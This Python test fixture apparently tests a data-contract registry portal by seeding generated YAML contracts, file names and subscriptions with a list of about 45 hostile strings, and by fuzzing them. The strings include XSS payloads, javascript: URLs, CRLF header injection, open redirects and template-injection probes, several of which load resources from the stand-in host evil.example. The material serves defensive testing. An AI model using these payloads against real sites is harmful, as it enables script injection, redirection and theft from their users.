"""Texts that try to be more than text in a page, and a registry that says them everywhere."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import yaml
from fakes.portal_mesh import PortalMesh
from fakes.strangers import contract

FIRE = "window.fired=1"
HOSTILE = {
    "script": f"<script>{FIRE}</script>",
    "script with a source": "<script src=http://evil.example/x.js></script>",
    "end of a title": f"</title><script>{FIRE}</script>",
    "end of a style": f"</style><script>{FIRE}</script>",
    "end of a text area": f"</textarea><script>{FIRE}</script>",
    "end of the page": f"</main></body></html><script>{FIRE}</script>",
    "picture": f"<img src=x onerror={FIRE}>",
    "picture after a double quote": f'"><img src=x onerror={FIRE}>',
    "picture after a quote": f"'><img src=x onerror={FIRE}>",
    "attribute after a double quote": f'" autofocus onfocus={FIRE} tabindex=1 x="',
    "attribute after a quote": f"' autofocus onfocus={FIRE} tabindex=1 x='",
    "attribute after a blank": f"x onmouseover={FIRE} autofocus onfocus={FIRE}",
    "svg": f"<svg onload={FIRE}><animate onbegin={FIRE} attributeName=x></svg>",
    "frame": f"<iframe srcdoc='<script>parent.{FIRE}</script>'></iframe>",
    "object": "<object data=http://evil.example/x></object><embed src=http://evil.example/y>",
    "base": "<base href=http://evil.example/>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "sheet": "<link rel=stylesheet href=http://evil.example/x.css>",
    "style": "<style>*{background:url(http://evil.example/x)}</style>",
    "form": "<form action=http://evil.example><button autofocus>press</button></form>",
    "comment": f"<!-- --!><script>{FIRE}</script><!--",
    "comment in a noscript": f'<noscript><p title="</noscript><img src=x onerror={FIRE}>">',
    "mathematics": "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=1 onerror={FIRE}&gt;'>",
    "template": f"<template shadowrootmode=open><script>{FIRE}</script></template>",
    "javascript": f"javascript:{FIRE}",
    "javascript with a tab": f"java\tscript:{FIRE}//https://a.example",
    "javascript in capitals after blanks": f"  JaVaScRiPt:{FIRE}",
    "data": f"data:text/html,<script>parent.{FIRE}</script>",
    "script of visual basic": f"vbscript:{FIRE}",
    "address of another host": "//evil.example/x",
    "address that shows another host": "https://wiki.example.com@evil.example/",
    "address with a backslash": "https:\\\\evil.example\\@wiki.example.com",
    "address with a line in it": "https://wiki.example.com/\r\nSet-Cookie: a=b",
    "mail with copies": "mailto:a@b.example?bcc=c@evil.example&body=%0d%0a",
    "template of jinja": "{{ 7 * 7 }}{% for one in [].__class__.__mro__ %}{{ one }}{% endfor %}",
    "template of others": "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('window.fired=1')()}}",
    "end of a string of script": f'\\");{FIRE}//',
    "end of a script in a string": f"</script><script>{FIRE}</script>",
    "lines of script": f"\u2028;{FIRE}//\u2029",
    "names of every object": "__proto__ constructor toString hasOwnProperty",
    "character data": f"]]><script>{FIRE}</script><![CDATA[",
    "entities": "&lt;script&gt;&#60;img src=x&#62;&amp;lt;",
    "turned direction": "\u202e<txt.exe\u2066 and \u2069",
    "marks without end": "Z" + "\u0300\u0323" * 300,
    "long word": "W" * 20_000,
    "wide word of many rows": "寿司" * 4_000,
}


def document(number: int, text: str) -> dict[str, Any]:
    """A contract that says the text everywhere; in every third one its names of things are the text too."""
    made = contract(f"stranger-{number:02}", text)
    named = text if number % 3 == 0 else "orders"
    made["servers"][0]["path"] = f"lake/{number}"
    made["support"] += [{"channel": text, "tool": "email", "url": text}]
    made["team"]["members"] += [{"username": f"{text}@evil.example", "name": text, "role": text}]
    made["schema"][0]["name"] = made["slaProperties"][0]["element"] = named
    made["slaProperties"][0]["id"] = text.strip() if number % 3 == 1 else "daily"
    made["customProperties"] += [{"property": "inputs", "value": [text, "stranger-01"]}]
    made["schema"][0]["properties"] += [
        {"name": f"nested {text}", "physicalName": f"nested_{text}", "logicalType": "object",
         "description": text, "properties": [
             {"name": text, "logicalType": "string", "description": text, "classification": text}]}
    ]  # fmt: skip
    return made


def world(folder: Path) -> PortalMesh:
    """A registry of them all, watched while two deliveries are missing, with incidents, and built."""
    mesh = PortalMesh(folder)
    waivers, place = [], mesh.folder / "registry"
    for number, text in enumerate(HOSTILE.values()):
        _put(place / f"{number}.odcs.yaml", document(number, text))
        # One whose id is the text, and one that cannot be read, whose file has the text as its name.
        _put(place / f"id-{number}.odcs.yaml", document(number, text) | {"id": text})
        odd = text.replace("/", "\u2215").replace("\0", "")[:60]
        _put(
            place / "unread" / f"{odd}.odcs.yaml",
            document(number, text) | {"id": f"x{number}", "version": [text]},
        )
        agreed = {
            "contract": f"stranger-{number:02}",
            "major": 1,
            "consumer": {"team": text, "contact": text},
        }
        _put(
            place / "subscriptions" / f"{number}.yaml", {**agreed, "purpose": text, "startDate": "2026-01-01"}
        )
        said = dict.fromkeys(("contract", "path", "reason", "by"), text)
        waivers.append({"rule": "missing-description", **said, "expires": "2026-06-02"})
    _put(place / "dq-policy.yaml", {"waivers": waivers})
    return mesh


def _put(file: Path, value: object) -> None:
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(yaml.dump(value, Dumper=yaml.CSafeDumper, sort_keys=False, width=100_000))


def fuzzed(seed: int) -> dict[str, Any]:
    """A contract in which some texts are those of strangers; in one of five, any values are any others."""
    draw = random.Random(seed)
    made, wild = document(seed, draw.choice(list(HOSTILE.values()))), draw.random() < 0.2
    for _ in range(draw.randint(1, 6)):
        places = [
            (holder, key)
            for holder, key in _leaves(made)
            if wild or (key in _PROSE and isinstance(holder[key], str))
        ]
        holder, key = draw.choice(places)
        holder[key] = draw.choice(_values(draw) if wild else _texts(draw))()
    made["id"] = f"fuzzed-{seed}" if draw.random() < 0.8 else made["id"]
    return made


def _leaves(value: Any) -> Iterator[tuple[Any, Any]]:
    """Every place of a document that holds something, the whole of lists and mappings too."""
    pairs = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, inner in list(pairs):
        yield value, key
        yield from _leaves(inner)


# What may say anything: a text there makes no contract unreadable.
_PROSE = frozenset(
    {"description", "purpose", "usage", "limitations", "name", "businessName", "domain", "dataProduct",
     "tenant", "username", "role", "channel", "url", "classification", "property", "server"}
)  # fmt: skip


def _texts(draw: random.Random) -> list[Callable[[], Any]]:
    texts = list(HOSTILE.values())
    signs = lambda: draw.choice((draw.randrange(32, 127), draw.randrange(0xA0, 0xD800)))  # noqa: E731
    return [
        lambda: draw.choice(texts),
        lambda: draw.choice(texts),
        lambda: "".join(draw.sample(texts, 3))[:3_000],
        lambda: "".join(chr(signs()) for _ in range(99)),
    ]


def _values(draw: random.Random) -> list[Callable[[], Any]]:
    texts = list(HOSTILE.values())
    return [
        *_texts(draw),
        lambda: draw.choice((None, True, -1, 10**30, 0.1, "", [], {})),
        lambda: [draw.choice(texts)],
        lambda: {draw.choice(texts): draw.choice(texts)},
    ]


def fuzzed_world(folder: Path, seeds: range) -> PortalMesh:
    """A registry of fuzzed contracts."""
    for seed in seeds:
        _put(folder / "registry" / f"{seed}.odcs.yaml", fuzzed(seed))
    return PortalMesh(folder)
